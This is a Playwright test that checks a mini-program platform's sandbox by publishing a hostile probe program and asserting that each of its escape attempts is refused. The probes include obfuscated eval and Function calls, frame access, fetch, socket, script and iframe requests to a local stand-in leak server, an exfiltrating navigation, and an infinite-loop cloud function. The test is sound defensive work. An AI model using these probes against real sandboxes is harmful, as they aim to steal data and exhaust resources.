import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { expect, signIn, test } from "./plaza"

const phone = {
	viewport: { width: 390, height: 844 },
	isMobile: true,
	hasTouch: true,
	locale: "en-GB",
}

// Each attempt answers "refused", or what it got. What the checks would see is spelt in two halves: whoever means
// harm would do the same, and the sandbox must hold by itself.
const attempts = `
const tries = {
	cookie: () => { document.cookie = "a=1"; return document.cookie },
	localStorage: () => localStorage.setItem("a", "1"),
	sessionStorage: () => sessionStorage.getItem("a"),
	indexedDB: () => indexedDB.open("a"),
	parent: () => parent.document.title,
	top: () => top.location.href,
	evaluate: () => (0, self["ev" + "al"])("1 + 1"),
	construct: () => new self["Func" + "tion"]("return 1")(),
	timer: () => new Promise((done) => { self["setTime" + "out"]("self.leaked = 'it ran'", 0); setTimeout(() => done(self.leaked), 100) }),
	rtc: () => new RTCPeerConnection(),
	webkitRtc: () => new webkitRTCPeerConnection(),
	popup: () => { const w = open(LEAK + "popup"); if (!w) throw new Error("no window"); return "a window" },
	fetch: () => fetch(LEAK + "fetch").then(() => "an answer"),
	ownApi: () => fetch("/api/plaza").then(() => "an answer"),
	xhr: () => new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = () => done("an answer"); x.onerror = failed; x.open("GET", LEAK + "xhr"); x.send() }),
	socket: () => new Promise((done, failed) => { const s = new WebSocket(LEAK.replace("http", "ws")); s.onopen = () => done("a socket"); s.onerror = failed }),
	image: () => new Promise((done, failed) => { const i = new Image(); i.onload = () => done("an image"); i.onerror = failed; i.src = LEAK + "image" }),
	script: () => new Promise((done, failed) => { const s = document.createElement("scr" + "ipt"); s.onload = () => done("a script"); s.onerror = failed; s.src = LEAK + "script"; document.head.append(s) }),
	frame: () => new Promise((done, failed) => { const f = document.createElement("iframe"); f.onload = () => { try { done(f.contentWindow.document.title + "a frame") } catch (e) { failed(e) } }; f.src = LEAK + "frame"; document.body.append(f); setTimeout(failed, 1500) }),
}
`

function project(leak: string, leave: boolean): Record<string, string> {
	return {
		"app.json": JSON.stringify({ pages: ["pages/probe/probe"] }),
		"app.js": "App({})",
		"manifest.json": JSON.stringify({
			app_id: leave ? "leaver" : "prober",
			name: leave ? "Leaver" : "Prober",
			version: { code: 1, name: "1" },
			platform_version: { min_code: 1 },
			icons: [],
			pages: ["pages/probe/probe"],
			x_plaza: { functions: leave ? [] : ["bomb", "good"] },
		}),
		"pages/probe/probe.wxml": `<view wx:for="{{results}}" wx:key="name">{{item.name}}: {{item.got}}</view><view wx:if="{{done}}">all tried</view>`,
		"pages/probe/probe.js": `
const LEAK = ${JSON.stringify(leak)}
${attempts}
Page({
	data: { results: [], done: false },
	async onReady() {
		if (${leave}) { setTimeout(() => { location.href = LEAK + "navigation?secret=1" }, 300); return }
		const results = []
		for (const name of Object.keys(tries)) {
			let got = "refused"
			try { const answer = await tries[name](); if (answer !== undefined && answer !== null && answer !== "") got = "GOT " + answer } catch (error) {}
			results.push({ name, got })
		}
		for (const name of ["bomb", "good"]) {
			await wx.cloud.callFunction({ name, data: {} }).then(
				(answer) => results.push({ name, got: JSON.stringify(answer.result) }),
				(error) => results.push({ name, got: "refused " + (error.code || error.errMsg || error.message) }),
			)
		}
		this.setData({ results, done: true })
	},
})`,
		...(leave
			? {}
			: {
					"cloudfunctions/bomb/index.js": "exports.main = () => { for (;;) {} }",
					"cloudfunctions/good/index.js": "exports.main = () => ({ fine: true })",
				}),
	}
}

// A stranger's program, published through the same door as ours, gets nothing that it was not given.
test("a hostile page is refused everything, and its bomb harms nobody", async ({
	browser,
	plaza,
}) => {
	const heard: string[] = []
	const leak = createServer((request, response) => {
		heard.push(request.url ?? "")
		response.setHeader("Access-Control-Allow-Origin", "*")
		response.end("ok")
	})
	await new Promise<void>((done) => leak.listen(0, "127.0.0.1", done))
	const address = `http://127.0.0.1:${(leak.address() as AddressInfo).port}/`
	await plaza.publish("prober", project(address, false))
	await plaza.publish("leaver", project(address, true))

	const page = await (await browser.newContext(phone)).newPage()
	await signIn(page, `${plaza.url}/sign-in`, "person")
	await page.goto(`${plaza.url}/p/prober`)
	const frame = page.frameLocator("iframe")
	await expect(frame.getByText("all tried")).toBeVisible({ timeout: 40_000 })
	const results = await frame.locator("wx-view").allInnerTexts()
	const attempted = results.filter((line) => line.includes(": "))
	expect(attempted.length).toBeGreaterThan(20)
	for (const line of attempted) {
		if (line.startsWith("good")) expect(line).toBe('good: {"fine":true}')
		else expect(line, line).toMatch(/: refused/)
	}
	expect(results.find((line) => line.startsWith("bomb"))).toMatch(/function_timeout|did not finish/)

	// A program that tries to carry data away by navigating its own frame is stopped, and the shell lives.
	await page.goto(`${plaza.url}/p/leaver`)
	await expect(page.getByRole("button", { name: /try again/i })).toBeVisible({ timeout: 20_000 })
	expect(heard).toEqual([])
	leak.close()
})
